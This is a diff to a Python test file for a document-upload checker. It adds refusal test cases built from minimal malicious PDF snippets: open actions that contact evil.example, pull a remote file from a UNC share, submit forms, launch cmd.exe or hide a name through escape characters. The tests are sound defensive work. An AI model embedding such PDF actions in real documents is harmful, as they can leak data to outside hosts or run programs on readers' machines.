@@ -63,6 +63,25 @@ REFUSALS = [
         b"%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\n%%EOF\n",
         "JavaScript",
     ),
+    # attacker review 2026-12, finding D: actions that are not scripts but still act on opening or reach out
+    ("report.pdf", b"%PDF-1.4\n1 0 obj << /OpenAction << /S /URI /URI (http://evil.example/x) >> >>\n%%EOF\n", "web"),
+    (
+        "report.pdf",
+        b"%PDF-1.4\n1 0 obj << /OpenAction 2 0 R >> endobj\n2 0 obj << /S /URI /URI (http://e.example) >> endobj\n%%EOF\n",
+        "web",
+    ),
+    (
+        "report.pdf",
+        b"%PDF-1.4\n1 0 obj << /OpenAction << /S /GoToR /F (\\\\evil\\share\\x.pdf) >> >>\n%%EOF\n",
+        "remote-file",
+    ),
+    ("report.pdf", b"%PDF-1.4\n1 0 obj << /OpenAction << /S /GoToE /T << /R /C >> >> >>\n%%EOF\n", "remote-file"),
+    ("report.pdf", b"%PDF-1.4\n1 0 obj << /OpenAction << /S /SubmitForm /F (http://e.example) >> >>\n%%EOF\n", "form"),
+    ("report.pdf", b"%PDF-1.4\n1 0 obj << /A << /S /ImportData /F (data.fdf) >> >>\n%%EOF\n", "form"),
+    ("report.pdf", b"%PDF-1.4\n1 0 obj << /AcroForm << /XFA 5 0 R >> >>\n%%EOF\n", "XFA"),
+    ("report.pdf", b"%PDF-1.4\n1 0 obj << /Type /Annot /Subtype /RichMedia >>\n%%EOF\n", "JavaScript"),
+    ("report.pdf", b"%PDF-1.4\n1 0 obj << /OpenAction << /S /Launch /F (cmd.exe) >> >>\n%%EOF\n", "launch"),
+    ("report.pdf", b"%PDF-1.4\n1 0 obj << /Sub#6dit#46orm 1 >>\n%%EOF\n", "form"),
     ("cut.pdf", b"%PDF-1.4\n1 0 obj\n", "not a complete PDF"),
     ("photo.png", b"GIF89a" + bytes(50), "gif"),
 ]
@@ -98,3 +117,13 @@ def test_the_size_limit_is_the_setting(settings):
 )
 def test_safe_filenames_have_no_path_quotes_or_control_characters_and_keep_their_type(name, content_type, safe):
     assert safe_filename(name, content_type) == safe
+
+
+def test_a_pdf_with_an_ordinary_hyperlink_is_still_accepted():
+    """A link annotation's /URI (clicked by the reader) is not an open action: accepted (finding D refuses /URI only
+    as an open action)."""
+    data = (
+        b"%PDF-1.4\n1 0 obj << /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.gov.uk/) >> >> endobj\n"
+        b"2 0 obj << /OpenAction [3 0 R /Fit] >> endobj\n%%EOF\n"
+    )
+    assert file_check("links.pdf", data).content_type == PDF
